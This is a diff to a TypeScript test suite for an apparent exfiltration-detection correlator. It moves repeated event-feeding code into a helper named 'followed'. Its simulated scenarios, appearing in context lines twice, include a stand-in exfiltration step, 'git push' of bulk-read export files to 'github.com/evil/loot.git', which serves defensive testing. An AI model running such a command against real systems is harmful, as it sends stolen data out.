@@ -111,6 +111,17 @@ describe('clock trouble and disorder in the correlator', () => {
     expect(correlator.flush()).toEqual([]);
   });
 
+  /** Live, one event a call as a followed file delivers them (the TTL sweep runs between calls), then a minute on:
+   * each alert as its shape and bytes read. */
+  const followed = (events: Scenario['events'], wallMs: number): string[] => {
+    const { correlator } = makeCorrelator();
+    correlator.advance(wallMs);
+    const alerts: Alert[] = [];
+    for (const e of events) alerts.push(...correlator.ingest([e]));
+    alerts.push(...correlator.advance(wallMs + 60_000));
+    return alerts.map((a) => `${shape(a)} ${a.reads.bytes}`);
+  };
+
   it('live: one event hours ahead of a node whose clock is far from the wall clock does not move it', () => {
     // Once a node's clock follows its events away from the wall clock (an old capture, a sensor clock ahead), a
     // lone glitch is still refused as it is on a node in step: moved 20 h, the clock expired the capture's reads
@@ -128,13 +139,7 @@ describe('clock trouble and disorder in the correlator', () => {
         s.readMany(sh, '/srv/export/more', 20, 4 * MiB, 60_000);
         s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
         for (let i = 0; i < 10; i++) s.wait(10_000).read(sh, '/app/x', 10);
-        const { correlator } = makeCorrelator();
-        correlator.advance(wallMs);
-        // One event a call, as a followed file delivers them: the TTL sweep runs between calls.
-        const alerts: Alert[] = [];
-        for (const e of s.events) alerts.push(...correlator.ingest([e]));
-        alerts.push(...correlator.advance(wallMs + 60_000));
-        return alerts.map((a) => `${shape(a)} ${a.reads.bytes}`);
+        return followed(s.events, wallMs);
       };
       const clean = capture(false);
       expect(clean, `offset ${offsetMs}`).toHaveLength(1);
@@ -161,12 +166,7 @@ describe('clock trouble and disorder in the correlator', () => {
       s.readMany(sh, '/srv/export/more', 20, 4 * MiB, 60_000);
       s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh });
       for (let i = 0; i < 10; i++) s.wait(10_000).read(sh, '/app/x', 10);
-      const { correlator } = makeCorrelator();
-      correlator.advance(wallMs);
-      const alerts: Alert[] = [];
-      for (const e of s.events) alerts.push(...correlator.ingest([e]));
-      alerts.push(...correlator.advance(wallMs + 60_000));
-      return alerts.map((a) => `${shape(a)} ${a.reads.bytes}`);
+      return followed(s.events, wallMs);
     };
     const clean = capture(false);
     expect(clean).toHaveLength(1);
